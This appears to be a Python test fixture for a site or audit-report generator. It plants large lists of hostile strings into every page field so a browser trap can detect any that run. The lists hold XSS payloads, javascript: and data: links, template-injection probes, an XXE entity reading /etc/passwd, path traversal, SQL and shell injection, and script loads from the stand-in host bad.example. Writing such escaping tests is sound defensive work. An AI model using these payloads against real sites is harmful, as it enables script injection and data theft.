"""Words that try to be something else on a page than words, and a site full of them.

Each payload that could run says so by `pwned`: it sets a flag, which a trap in the
browser watches. What could ask another host asks `bad.example`.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import planted
from PIL import Image

RUN = "window.__pwned=1"
HOST = "bad.example"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"</script><script>{RUN}</script>",
    f"</title></head><body><script>{RUN}</script>",
    f"</textarea></style></noscript></template><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`><script>{RUN}</script>",
    f"<script src=https://{HOST}/x.js></script>",
    f"<script src=//{HOST}/x.js></script>",
    f"<script type=module>import 'https://{HOST}/x.js'</script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3C;img src=x onerror={RUN}&#x3E;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"'-({RUN})-'",
    f'"-({RUN})-"',
    f"';{RUN};//",
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
)
"""Scripts, and ways out of where words stand into one."""

HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=`x` onerror={RUN}>",
    f"<img src=https://{HOST}/p.png>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"x onmouseover={RUN} ",
    f'" autofocus onfocus={RUN} tabindex=0 "',
    f'" style="background:url(https://{HOST}/c.png)',
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<object data=https://{HOST}/o></object><embed src=https://{HOST}/e>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<base href=https://{HOST}/>",
    f"<meta http-equiv=refresh content=0;url=https://{HOST}/>",
    f"<link rel=stylesheet href=https://{HOST}/s.css>",
    f"<style>@import url(https://{HOST}/s.css);</style>",
    "<div class=mermaid>x</div><a id=__config>x</a>",
    "<form id=__config><input name=base></form>",
)
"""Elements and attributes that run or ask by themselves."""

SVGS = (
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=https://{HOST}/x.js /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href=https://{HOST}/u.svg#x /></svg>",
    f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
    f"</text></svg><img src=x onerror={RUN}>",
    f"</title></desc></svg><script>{RUN}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
"""The same by way of drawings."""

LINKS = (
    f"[a](javascript:{RUN})",
    f"[a](JaVaScRiPt:{RUN})",
    f"[a]( javascript:{RUN})",
    f"[a](<javascript:{RUN}>)",
    f"[a](java\tscript:{RUN})",
    f"[a](<java\nscript:{RUN}>)",
    f"[a](&#106;avascript:{RUN})",
    f"[a](&#x6A;&#x61;vascript:{RUN})",
    f"[a](javascript&colon;{RUN})",
    f"[a](java&Tab;script:{RUN})",
    f"[a](java&NewLine;script:{RUN})",
    f"[a](%6Aavascript:{RUN})",
    f"[a](\\javascript:{RUN})",
    f"[a](j\u200bavascript:{RUN})",
    f"[a](javascript://x%0A{RUN})",
    f"[a](data:text/html,<script>{RUN}</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[a](data:image/svg+xml,<svg onload={RUN}>)",
    "[a](vbscript:msgbox)",
    "[a](file:///etc/passwd)",
    f"[a](blob:https://{HOST}/x)",
    f"[a](//{HOST})",
    f"[a](/\\{HOST})",
    f"[a](https:javascript:{RUN})",
    f'[a](https://{HOST} "x\\" onmouseover={RUN} \\"")',
    f'[a](https://{HOST}/"onmouseover={RUN})',
    f"[a](https://{HOST}/?<script>{RUN}</script>)",
    f"[a](mailto:x@{HOST}?subject=<script>{RUN}</script>)",
    f"[a][r] [r]\n\n[r]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f'<https://{HOST}/"onmouseover={RUN}>',
    f"![x](https://{HOST}/p.png)",
    f'![x](x"onerror="{RUN})',
    f"![x](javascript:{RUN})",
    f"![a][r]\n\n[r]: https://{HOST}/p.png",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"https://{HOST}/<script>{RUN}</script>",
)
"""Addresses that run, in Markdown and bare."""

TEMPLATES = (
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ config }}",
    "{% raw %}",
    "{% endblock %}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "{% for x in y %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %(x)s {0} {x} {",
    "$$ \\(x\\) $`x`$",
    "{: onmouseover=window.__pwned=1 style=position:fixed }",
    "{ onmouseover=window.__pwned=1 }",
    "x {: #__config .mermaid }",
    "# x {#__config onmouseover=window.__pwned=1}",
    '--8<-- "/etc/passwd"',
    "--8<--\n/etc/passwd\n--8<--",
    ";--8<-- 'mkdocs.yml'",
    "!include /etc/passwd",
    "::: os.path",
    "[TOC]",
    "[[_TOC_]] [[wiki]]",
    "!!! danger\n    x",
    "??? note\n    x",
    "<!-- cx: levels -->",
    "<!-- x -->",
    "<!--",
    "--> x <!--",
    "<!--<script>",
    "]]> <![CDATA[ x",
    "*[HTML]: x",
    "[^1]\n\n[^1]: x",
    ":smile: ==x== ++ctrl++ ~~x~~ ^^x^^",
)
"""What a template engine, an extension of Markdown or a comment would make of it."""

BREAKS = (
    "a | b | c",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "x\n===\n\ny\n---",
    "# One\n## Two\n###### Six",
    "---",
    "***\n___",
    "> quote\n>> twice",
    "- a\n  - b\n    - c",
    "1. a\n1000000000. b",
    "```\n</code></pre><script>window.__pwned=1</script>",
    "```mermaid\ngraph TD\n```",
    '``` x" onmouseover="window.__pwned=1\n```',
    "~~~js highlight md-overlay\nx\n~~~",
    "    indented <b>x</b>",
    "`</code><script>window.__pwned=1</script>`",
    "**<b>** *<i>* _</em>_",
    "</p></div></article></main>",
    "</bdi></span></td></tr></table>",
    "</li></ul></details></section>",
    "</option></select></form>",
    "<table><tr><td>",
    "<div hidden>",
    "<textarea>",
    "<plaintext>",
    "<xmp>",
    "<title>",
    "x<br>y<hr>z",
    "\\<b\\> \\*x\\* \\",
    "a\tb\r\nc\nd",
    "\n\n\n x",
    "&nbsp;&shy;&lt;&amp;&quot;&apos;&#0;&#x110000;&bogus;",
    "& < > \" ' ` = /",
    "AT&T &copy &copy; &notit;",
)
"""What would end, begin or turn around the elements that stand about it."""

LETTERS = (
    "\u202egnp.exe\u202c",
    "\u2067x\u2066y",
    "\u202a\u202b\u202d",
    "\u200b\u200c\u200d\u2060",
    "x\u200bscript\u00ad",
    "\u0627\u0644\u0645\u062a\u062c\u0631 (1) <b>",
    "\u05d7\u05e0\u05d5\u05ea abc 123",
    "Z\u0351\u036b\u0343a\u0311\u0328\u0353l\u0310\u0330g\u0352\u0320o" * 4,
    "\u00e9 e\u0301 \ufb01 \u0130\u0131 \u00df \u1e9e",
    "\U0001f469\u200d\U0001f4bb\U0001f3f4\U000e0067\U000e007f \U0001f1f5\U0001f1f1",
    "\ufdfa\u2f00\u3400\U0002f800",
    "\uff1d1+1 \uff0b \u02bc \u2019",
    "Konstantynopolita\u0144czykowianeczka" * 12,
    "W" * 600,
    "a/" * 200,
    "\u00a0\u2003\u3000x\u00a0",
    "null",
    "undefined",
    "__proto__",
    "constructor",
    "NaN",
    "-1",
    "../../etc/passwd",
    "C:\\Windows\\x",
    "'; DROP TABLE shops; --",
    "$(touch x) `touch x` | x",
    "=1+1",
    "%00 %0d%0aSet-Cookie: x=1",
)
"""Directions, what cannot be seen, what is very long, and words that mean something."""

STRINGS = SCRIPTS + HANDLERS + SVGS + LINKS + TEMPLATES + BREAKS + LETTERS

REFUSED = (
    "a\u2028b",
    "a\u2029b",
    "a\ufeffb",
    "a\0b",
    "a\x1bb",
    "a\x85b",
    "a\ud800b",
)
"""What the reader refuses; pages must bear it all the same, where they can."""

Words = Callable[[planted.Where, str], str]


ON_PAGES = (*STRINGS, *REFUSED[:3])
"""Those that are planted in every field of a page; of the refused ones a few do."""


def site_files(words: Words, *shops: str) -> planted.Files:
    """Return a project's files with these words in every field."""
    files = planted.every_field()
    for shop in shops:
        for name in [name for name in files if name.startswith(planted.SHOP)]:
            files[name.replace(planted.SHOP, f"shops/{shop}")] = files[name]
    return planted.planted(files, words)


def project(root: Path, words: Words, *shops: str) -> int:
    """Write a project with these words in every field; return how many fields."""
    files = site_files(words, *shops)
    planted.write(root, files)
    for shop in ("demo", *shops):
        evidence = root / "audits/shops" / shop / "evidence"
        evidence.mkdir()
        for name, colour in (("search.png", "navy"), ("unseen.jpg", "maroon")):
            Image.new("RGB", (60, 40), colour).save(evidence / name)
    return len(list(planted.fields(files)))


def thin_out(root: Path, shop: str) -> None:
    """Leave a shop one audit: it is there to be compared with."""
    for name in (planted.LABELLED, planted.EARLIER):
        (root / "audits" / name.replace(planted.SHOP, f"shops/{shop}")).unlink()


class Rotation:
    """Gives every field the next few strings, so that each stands in many fields."""

    def __init__(self, each: int = 6) -> None:
        """Begin with the first string; `each` is how many a field gets."""
        self._each = each
        self._next = 0

    def __call__(self, where: planted.Where, said: str) -> str:  # noqa: ARG002 - any
        """Return the words of a field: its own, then the strings, a paragraph each."""
        strings = [
            STRINGS[(self._next + number) % len(STRINGS)]
            for number in range(self._each)
        ]
        self._next += self._each
        return "\n\n".join([said, *strings])
